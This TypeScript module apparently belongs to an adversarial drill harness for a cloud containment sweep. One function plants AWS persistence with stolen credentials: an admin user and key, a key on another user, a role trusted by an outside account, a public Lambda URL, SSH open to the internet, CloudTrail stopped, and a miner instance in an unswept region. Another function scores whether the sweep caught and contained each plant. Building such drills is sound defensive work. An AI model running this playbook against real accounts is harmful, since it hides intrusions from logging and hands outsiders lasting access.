import { CloudTrailClient, StopLoggingCommand } from '@aws-sdk/client-cloudtrail';
import { AuthorizeSecurityGroupIngressCommand, EC2Client, RunInstancesCommand } from '@aws-sdk/client-ec2';
import { AttachUserPolicyCommand, CreateAccessKeyCommand, CreateRoleCommand, CreateUserCommand, IAMClient } from '@aws-sdk/client-iam';
import { CreateFunctionCommand, CreateFunctionUrlConfigCommand, LambdaClient } from '@aws-sdk/client-lambda';
import type { AuditEmail } from '../local-pipeline';
import { REGION, SANDBOX_MEMBER_ACCOUNT } from '../drill-accounts';
import type { Credentials } from './targets';

/** The sweep policy of the adversarial drill: the new doors are closed, the rest reported. */
export const DRILL_SWEEP_POLICY = 'new-principal=contain,new-credential=contain,trust-change=contain,new-compute=contain';
/**
 * Where the attacker launches its miner: neither the compromised user's region nor IAM's (an
 * attacker who read the README looks for a region nobody sweeps; the sweep reads every enabled one).
 */
export const MINER_REGION = 'eu-north-1';
/** An account outside the organization, which the attacker's backdoor role trusts. */
const OUTSIDE_ACCOUNT = '444455556666';
const ADMIN = 'arn:aws:iam::aws:policy/AdministratorAccess';

/** One door the attacker left before containment: how the sweep names it, and what must be contained under the drill's policy. */
export interface Plant {
  item: string;
  /** The entity as the sweep's report names it (`<kind> <id>`), and the event that made it. */
  entity: string;
  eventName: string;
  /** The ARN the sweep must have sent to containment; none: reported only. */
  contains?: string;
}

export interface PlantScore {
  item: string;
  /** The CloudTrail event the SWEPT report cites, if the sweep found it. */
  eventId?: string;
  category?: string;
  /** `contained` (a CONTAINED report for it), `not contained`, or `reported only` (the policy does not contain it). */
  contained: 'contained' | 'not contained' | 'reported only';
}

/** What the fixtures prepared for the attacker's plants (made by the account's administrator, not the attacker). */
export interface PlantGround {
  /** A user the attacker adds a key to. */
  bystander: string;
  /** A role a function can run as. */
  executionRoleArn: string;
  /** A security group of the workload. */
  groupId: string;
  /** The account's trail, logging. */
  trail: string;
  /** A subnet in MINER_REGION. */
  minerSubnet: string;
}

/**
 * The attacker, with the stolen key of the compromised user, plants persistence before lockdown
 * contains it: a new administrator with a key, a key on another user, a role an outside account
 * may assume, a function with a public URL, SSH opened to the internet, the trail stopped, a miner
 * in another region.
 */
export async function plantPersistence(stolen: Credentials, ground: PlantGround, suffix: string): Promise<Plant[]> {
  const config = { region: REGION, credentials: stolen, maxAttempts: 1 };
  const iam = new IAMClient(config);
  const arn = (resource: string) => `arn:aws:iam::${SANDBOX_MEMBER_ACCOUNT}:${resource}`;
  const admin = `adv-svc-backup-${suffix}`;
  await iam.send(new CreateUserCommand({ UserName: admin }));
  await iam.send(new AttachUserPolicyCommand({ UserName: admin, PolicyArn: ADMIN }));
  await iam.send(new CreateAccessKeyCommand({ UserName: admin }));
  const key = (await iam.send(new CreateAccessKeyCommand({ UserName: ground.bystander }))).AccessKey!.AccessKeyId!;
  const role = `adv-ops-audit-${suffix}`;
  const trust = {
    Version: '2012-10-17',
    Statement: [{ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${OUTSIDE_ACCOUNT}:root` }, Action: 'sts:AssumeRole' }],
  };
  await iam.send(new CreateRoleCommand({ RoleName: role, AssumeRolePolicyDocument: JSON.stringify(trust) }));
  const lambda = new LambdaClient(config);
  const fn = `adv-webhook-${suffix}`;
  const { FunctionArn } = await lambda.send(
    new CreateFunctionCommand({
      FunctionName: fn,
      Role: ground.executionRoleArn,
      Runtime: 'nodejs22.x',
      Handler: 'index.handler',
      Code: { ZipFile: new Uint8Array(1) },
    }),
  );
  await lambda.send(new CreateFunctionUrlConfigCommand({ FunctionName: fn, AuthType: 'NONE' }));
  await new EC2Client(config).send(
    new AuthorizeSecurityGroupIngressCommand({
      GroupId: ground.groupId,
      IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }],
    }),
  );
  await new CloudTrailClient(config).send(new StopLoggingCommand({ Name: ground.trail }));
  const { Instances } = await new EC2Client({ ...config, region: MINER_REGION }).send(
    new RunInstancesCommand({
      ImageId: 'ami-0abcdef1234567890',
      InstanceType: 'c7g.16xlarge',
      SubnetId: ground.minerSubnet,
      MinCount: 1,
      MaxCount: 1,
    }),
  );
  const miner = Instances![0]!.InstanceId!;
  return [
    { item: 'a new administrator', entity: `iam-user ${admin}`, eventName: 'CreateUser', contains: arn(`user/${admin}`) },
    {
      item: 'a key on another user',
      entity: `iam-access-key ${key} of ${ground.bystander}`,
      eventName: 'CreateAccessKey',
      contains: arn(`user/${ground.bystander}`),
    },
    { item: 'a role an outside account may assume', entity: `iam-role ${role}`, eventName: 'CreateRole', contains: arn(`role/${role}`) },
    { item: 'a new function', entity: `lambda-function ${fn}`, eventName: 'CreateFunction20150331', contains: FunctionArn! },
    { item: "that function's public URL", entity: `lambda-function ${fn}`, eventName: 'CreateFunctionUrlConfig' },
    {
      item: 'SSH open to the internet',
      entity: `security-group ${ground.groupId} (tcp 22 from 0.0.0.0/0)`,
      eventName: 'AuthorizeSecurityGroupIngress',
    },
    { item: 'the trail stopped', entity: `trail ${ground.trail}`, eventName: 'StopLogging' },
    {
      item: `a miner in ${MINER_REGION}`,
      entity: `ec2-instance ${miner}`,
      eventName: 'RunInstances',
      contains: `arn:aws:ec2:${MINER_REGION}:${SANDBOX_MEMBER_ACCOUNT}:instance/${miner}`,
    },
  ];
}

/** A finding of a SWEPT email, as the email renders it (libs/contracts renderAuditEmail). */
const FINDING = /^ {2}\d+\. \[([\w-]+)\] .*: (.*) \((reported|contained)\)\n {5}(\S+) at \S+ in \S+ from \S+, event (\S+)$/gm;

/** What the sweep reported of each plant, and whether what the policy contains was contained (pure: the emails in). */
export function scorePlants(plants: Plant[], emails: AuditEmail[]): PlantScore[] {
  const found = emails
    .filter((e) => e.subject.startsWith('[lockdown] SWEPT '))
    .flatMap((e) =>
      [...e.body.matchAll(FINDING)].map(([, category, entities, , eventName, eventId]) => ({ category, entities, eventName, eventId })),
    );
  const contained = (arn: string) =>
    emails.some((e) => e.subject.startsWith('[lockdown] CONTAINED ') && e.body.includes(`ARN:         ${arn}\n`));
  return plants.map((plant) => {
    // An entity may carry a detail in parentheses (a function URL, a rule).
    const names = (entities: string) => entities.split(', ').map((e) => e.replace(/ \(.*\)$/, ''));
    const finding = found.find((f) => f.eventName === plant.eventName && names(f.entities!).includes(plant.entity.replace(/ \(.*\)$/, '')));
    return {
      item: plant.item,
      ...(finding ? { eventId: finding.eventId!, category: finding.category! } : {}),
      contained: !plant.contains ? 'reported only' : contained(plant.contains) ? 'contained' : 'not contained',
    };
  });
}
